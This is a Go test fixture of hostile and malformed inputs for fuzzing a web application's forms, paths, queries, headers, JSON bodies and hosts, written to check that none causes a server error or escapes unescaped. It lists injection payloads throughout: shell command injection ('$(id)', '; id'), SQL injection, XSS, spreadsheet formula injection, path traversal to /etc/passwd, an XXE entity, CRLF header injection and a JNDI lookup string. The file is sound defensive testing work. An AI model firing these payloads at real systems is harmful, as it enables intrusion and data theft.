package app_test

import (
	"math/rand/v2"
	"strings"
)

// marker stands in what is sent, so that it is recognised where it should not be.
const marker = "zqspoil"

// hostile are values that somebody will send one day. None may be answered by a 5xx, and none may reach a page unescaped.
var hostile = []string{
	"", " ", "\t\r\n", "0", "-1", "1e400", "9223372036854775808", "NaN", "true", "null", "undefined", "[object Object]", "%", "%%%", "%zz", "..", "../../../etc/passwd", `..\..\windows\system.ini`,
	marker, "=" + marker + "()", "=cmd|' /C calc'!A0", "@SUM(1+1)" + marker, "+33 6 00 00 00 00", "-2+3+cmd" + marker,
	"<script>" + marker + "</script>", `"><img src=x onerror=` + marker + `>`, "javascript:" + marker, "' OR '1'='1", "'; DROP TABLE mobilisation_signature; --", `\'; ` + marker, "{{7*7}}", "${7*7}", "<%= 7*7 %>", "%s%s%n%x", "$(id)", "`id`", "|id", "; id",
	"https://spam.example/" + marker, "www.spam.example " + marker, "casino.example",
	"a@b@c", "a@", "@b.example", marker + "@example.org", marker + "@-bad-.example", "a\r\nBcc: victim@example.org", "a%0d%0aX-Injected: 1", "a\nX-Injected: 1", "\"" + marker + "\"@example.org", strings.Repeat("a", 300) + "@example.org", marker + "@" + strings.Repeat("b.", 200) + "example",
	"\x00", "a\x00b" + marker, "\x1b[31m" + marker, "\u202e" + marker, "\u2066" + marker + "\u2069", "\u200b\u200d\ufeff", "\ufffe\uffff", "é\u0301\u0301\u0301\u0301", strings.Repeat("\u0301", 400), "𝔐" + marker, "👩‍👩‍👧‍👦", "ﷺﷺﷺ", "İıſK", "עברית", "日本語", "\U0010ffff",
	"\xff\xfe" + marker, "\xc3\x28", "\xf0\x28\x8c\x28", "\xed\xa0\x80", "a\xc0\xafb",
	strings.Repeat("a", 1000), strings.Repeat("é", 5000), strings.Repeat(marker+" ", 4000), strings.Repeat("x", 40_000), strings.Repeat("\n", 3000), strings.Repeat("<b>", 3000),
	"FR", "fr", "XX", "ZZZ", "67000", "99999", "00000", "2A004", "1012 WX", "SW1A 1AA", "fr-FR", "en", "tlh", "host", "owner", "shown", "refused", "2147483648", "/etc", "//evil.example", `/\evil.example`, "https://evil.example", "/m/val", "/signout",
}

// fieldNames are the names of every form of the house, and some of none.
var fieldNames = []string{
	"given_name", "family_name", "email", "postal_code", "country", "message", "public_name", "letters", "under_15", "code", "signature", "decision", "name", "lang", "role", "sure", "next",
	"slug", "colour", "line", "lede", "about", "version", "link_label_0", "link_url_0", "link_label_7", "link_url_7", "guard_challenge", "guard_solution", "guard_wait", "guard_website", "title", "addressee", "point_1", "why", "letter", "goal", "ends", "scope", "place", "question_1", "answer_1", "question_12", "document_title", "remove", "key", "look", "back", "example", "in",
	"", "__proto__", "constructor", "id", "email[]", "email[0][a]", "\x00", "\xff", marker, strings.Repeat("n", 5000),
}

// good are answers that would be taken, so that one wrong answer stands among right ones.
var good = map[string]string{
	"given_name": "Ada", "family_name": "Martin", "email": "ada@example.org", "postal_code": "01000", "country": "FR", "code": "123456",
	"name": "Rail", "lang": "fr", "role": "organiser", "slug": "rail", "letters": "RV", "colour": "petrol", "lede": "Des trains.", "decision": "shown",
	"document_title": "Rapport", "link_label_0": "Site", "link_url_0": "https://example.org",
}

// value is a hostile value, or two of them, or some random bytes.
func value(dice *rand.Rand) string {
	switch dice.IntN(10) {
	case 0:
		return pick(dice, hostile) + pick(dice, hostile)
	case 1:
		raw := make([]byte, dice.IntN(64))
		for i := range raw {
			raw[i] = byte(dice.IntN(256))
		}
		return string(raw)
	}
	return pick(dice, hostile)
}

// spoiledJSON are bodies that are no JSON, or not what was asked for.
var spoiledJSON = []string{
	"", " ", "null", "true", "0", `""`, "[]", "[[]]", "{}", "{", "}", `{"`, `{"email"`, `{"email":`, `{"email":}`, `{"email":"a"`, `{"email":"a",}`, `{,}`, `{email:"a"}`, `{'email':'a'}`, `{"email":"a"}{"email":"b"}`, `{"email":"a"} trailing`, "// note\n{}", "\ufeff{}", "\x00{}", "{\"email\":\"\x00\"}", "{\"email\":\"\xff\"}", "{\"email\":\"a\nb\"}",
	`{"email":"\ud800"}`, `{"email":"\u0000"}`, `{"email":"\x41"}`, `{"email":null}`, `{"email":[]}`, `{"email":{}}`, `{"email":1}`, `{"email":1e400}`, `{"email":-0}`, `{"email":true}`, `{"email":["a@example.org"]}`, `{"email":"a","email":"b"}`, `{"EMAIL":"a"}`,
	`{"given_name":123456789012345678901234567890}`, `{"consents":"letters"}`, `{"consents":[1]}`, `{"consents":[null]}`, `{"consents":{"letters":true}}`, `{"consents":["` + marker + `"]}`, `{"consents":["letters","letters"]}`, `{"__proto__":{"x":1}}`, `{"language":1}`, `{"country":"\u202e"}`, `{"unknown":1}`,
	`{"given_name":"Ada","family_name":"Martin","email":"a@b","postal_code":"01000"}`, `{"given_name":"=cmd","family_name":"https://spam.example","email":"ada@example.org","postal_code":"01000"}`,
	strings.Repeat("[", 50_000), strings.Repeat(`{"a":`, 10_000), "[" + strings.Repeat("0,", 20_000) + "0]", `{"email":"` + strings.Repeat("a", 60_000) + `"}`, `{"given_name":` + strings.Repeat("9", 50_000) + `}`, strings.Repeat(" ", 60_000),
	"given_name=Ada&email=ada%40example.org", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "\x1f\x8b\x08\x00", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--",
}

// pathValues are what stands where a path has a name.
var pathValues = []string{
	"", ".", "..", "...", "%2e%2e", "%2e%2e%2fetc%2fpasswd", "..%2f..%2f", "%252e%252e", "%00", "a%00b", "%0d%0aX-Injected:%201", "%ff%fe", "%c0%af", "%20", "+", "*", "~", "-", "--", "a b", "é", "%C3%A9", "%F0%9F%90%9D", "%E2%80%AE" + marker,
	marker, "%3Cscript%3E" + marker + "%3C%2Fscript%3E", "%27%20OR%201=1--", "{slug}", "{$}", "$", "draft", "closed", "VAL", "val%20", "val.json", "val;a=b", "val%3Fx=1", "val%23", "en", "fr", "static", "api", "new", "edit", "admin", "wp-admin", ".git", ".env", "index.php", "favicon.ico", "0", "-1", "null", "undefined",
	strings.Repeat("a", 300), strings.Repeat("a", 7000), strings.Repeat("%C3%A9", 900), strings.Repeat("a", 26), "01890000000070008000000000000000", strings.Repeat("z", 22), "x/y", "//", "/../",
}

// queries are what stands behind a question mark.
var queries = []string{
	"a", "=", "&", "&&&", "a=1&a=2&a=3", "%", "a=%zz", "a;b", "a=%00", "a=%ff", "after=" + marker, "after=%ff", "after=" + strings.Repeat("a", 9000), "q=" + marker, "q=%00", "q=%ff", "q=" + strings.Repeat("%C3%A9", 40), "q=a&limit=-1", "q=a&limit=9999999999999999999999", "q=a&limit=x", "limit=0", "limit=101",
	"language=" + marker, "language=%ff", "language=../../x", "for=" + marker, "for=%00", "for=" + strings.Repeat("a", 63), "sent", "sent=%ff", "done=" + marker, "next=//evil.example", "next=https://evil.example", `next=/\evil.example`, "next=%0d%0aX-Injected:1", "<script>" + marker + "</script>", strings.Repeat("a=1&", 4000), "utm_source=" + marker,
}

// headerValues are what stands in headers that the house reads.
var headerValues = map[string][]string{
	"Accept-Encoding": {"", "*", "br;q=0", "gzip;q=0, br;q=0, *;q=0", "br;q=nan", "identity", ";;;,,,", strings.Repeat("gzip,", 2000), "gzip;q=0.5", "zstd", "\x7f", "BR"},
	"Accept-Language": {"", "*", "tlh", "en;q=x", "fr;q=0", "-", "en-", "e", strings.Repeat("en,", 3000), "zh-Hant-HK-x-" + strings.Repeat("a", 100), ";q=1", "EN", "\xff", "en;q=1e9, fr;q=-1", "i-klingon", "x-private"},
	"Cookie": {
		"__Host-essaim_session=", "__Host-essaim_session=" + marker, "__Host-essaim_session=" + strings.Repeat("a", 26), "__Host-essaim_session=" + strings.Repeat("z", 5000), "__Host-essaim_session=%00; __Host-essaim_session=%ff", "__Host-essaim_session=\"quoted\"", "a=b; __Host-essaim_session=x; __Host-essaim_session=y",
		"essaim_sign=", "essaim_sign=" + marker, "essaim_sign=" + strings.Repeat("A", 3000), "essaim_sign=AAAA", "essaim_sign=%00%ff", "essaim_signin=" + marker, "essaim_signin=" + strings.Repeat("_", 200), ";;;===", "=", strings.Repeat("a=b; ", 1500), "\xff\xfe",
	},
	"Origin":                 {"null", "https://evil.example", "http://essaim.example", "https://essaim.example.evil.example", "https://essaim.example:444", "file://", "", "https://", "\xff", "https://xn--essam-example"},
	"Sec-Fetch-Site":         {"cross-site", "same-site", "none", marker, ""},
	"Referer":                {"", "https://evil.example/" + marker, "\xff", "javascript:alert(1)", "https://essaim.example.evil.example/"},
	"If-None-Match":          {"*", `"`, `W/"x"`, strings.Repeat(`"a",`, 3000), "\xff"},
	"If-Modified-Since":      {"yesterday", "Thu, 01 Jan 1970 00:00:00 GMT", "\xff"},
	"Range":                  {"bytes=0-0", "bytes=-1", "bytes=0-,0-,0-,0-", "bytes=99999999999999999999-", "lines=1-2", "bytes=5-1"},
	"Accept":                 {"", "application/xml", "*/*;q=x", marker, "application/problem+json", strings.Repeat("a/b,", 3000)},
	"User-Agent":             {"", "\u202e" + marker, "\xff", strings.Repeat("Mozilla ", 1500), "<script>" + marker + "</script>", "${jndi:ldap://evil.example}"},
	"X-Forwarded-For":        {"1.2.3.4", "::1", "unknown", "1.2.3.4, 5.6.7.8, , ,", strings.Repeat("1.1.1.1,", 1000), "\xff", "999.1.1.1", "[::1]:80", "fe80::1%eth0"},
	"X-Forwarded-Host":       {"evil.example"},
	"X-Forwarded-Proto":      {"ftp"},
	"X-Http-Method-Override": {"DELETE"},
	"Content-Encoding":       {"gzip", "br", "identity", marker},
	"Last-Event-Id":          {marker, "\x00", strings.Repeat("9", 4000), "-1"},
	"Upgrade":                {"websocket", "h2c"},
	"Expect":                 {"200-ok"},
}

// contentTypes are what a body claims to be.
var contentTypes = []string{
	"", "text/plain", "application/json", "application/x-www-form-urlencoded; charset=utf-16", "multipart/form-data", "multipart/form-data; boundary=x", "multipart/form-data; boundary=" + strings.Repeat("x", 200), "application/xml", "application/", "/", ";", "APPLICATION/X-WWW-FORM-URLENCODED", "application/x-www-form-urlencoded;", "application/x-www-form-urlencoded; charset", "\xff", "text/html; charset=\"", "application/problem+json", "application/cbor", "application/octet-stream",
}

// methods are verbs that a route may not know.
var methods = []string{"HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "BREW", "PROPFIND", "get", "G", "GET", "POST", "QUERY", "SEARCH"}

// hosts are what a Host header may claim.
var hosts = []string{"evil.example", "essaim.example:1", "", "localhost", "127.0.0.1", "[::1]", "essaim.example.", "ESSAIM.EXAMPLE", "a b", "\xff", "essaim.example/../..", "essaim.example@evil.example", strings.Repeat("a", 3000)}
